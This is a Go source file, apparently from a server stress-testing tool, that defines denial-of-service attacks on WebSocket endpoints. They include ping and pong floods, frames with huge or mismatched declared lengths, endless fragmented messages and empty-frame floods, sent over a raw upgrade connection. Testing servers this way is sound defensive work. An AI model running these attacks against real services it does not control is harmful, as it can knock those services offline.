package attacks

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"time"
)

// Upgrade opens a WebSocket at the target's path and returns its connection.
func Upgrade(ctx context.Context, to Target) (net.Conn, error) {
	c, err := to.Dial(ctx)
	if err != nil {
		return nil, err
	}
	_, _ = fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nOrigin: http://a\r\n\r\n", to.path())
	resp, err := http.ReadResponse(bufio.NewReaderSize(c, 16), nil)
	if err == nil && resp.StatusCode != http.StatusSwitchingProtocols {
		err = fmt.Errorf("attacks: upgrade of %s: %s", to.path(), resp.Status)
	}
	if err != nil {
		_ = c.Close()
		return nil, err
	}
	return c, nil
}

// Frame returns the header of a WebSocket frame with the first byte and a masked length, which may differ from that of
// the payload, followed by the payload.
func Frame(first byte, length uint64, payload []byte) []byte {
	b := []byte{first, 0x80 | 127}
	b = binary.BigEndian.AppendUint64(b, length)
	return append(append(b, 0, 0, 0, 0), payload...)
}

// WebSocket lists attacks on a WebSocket endpoint, which must be the target's path.
func WebSocket() []Attack {
	return []Attack{
		{"ping flood", socket(func(to Target, w io.Writer) {
			_, _ = w.Write(bytes.Repeat(Frame(0x89, 125, make([]byte, 125)), to.times(20_000)))
		})},
		{"pong flood", socket(func(to Target, w io.Writer) { _, _ = w.Write(bytes.Repeat(Frame(0x8a, 0, nil), to.times(20_000))) })},
		{"huge frame", socket(func(to Target, w io.Writer) { _, _ = w.Write(Frame(0x82, 1<<62, make([]byte, to.times(16<<20)))) })},
		{"endless message", socket(func(to Target, w io.Writer) {
			_, _ = w.Write(bytes.Repeat(Frame(0x02, 4096, make([]byte, 4096)), to.times(4000)))
		})},
		{"negative length", socket(func(_ Target, w io.Writer) { _, _ = w.Write(Frame(0x82, 1<<64-1, []byte("x"))) })},
		{"garbage", socket(func(_ Target, w io.Writer) { _, _ = io.WriteString(w, Inner) })},
		{"empty frames", socket(func(to Target, w io.Writer) { _, _ = w.Write(bytes.Repeat(Frame(0x00, 0, nil), to.times(100_000))) })},
	}
}

// socket returns an attack that sends on a WebSocket without reading, for at most a second, and closes it.
func socket(send func(Target, io.Writer)) func(context.Context, Target) error {
	return func(ctx context.Context, to Target) error {
		c, err := Upgrade(ctx, to)
		if err != nil {
			return err
		}
		_ = c.SetWriteDeadline(time.Now().Add(time.Second))
		send(to, c)
		return c.Close()
	}
}
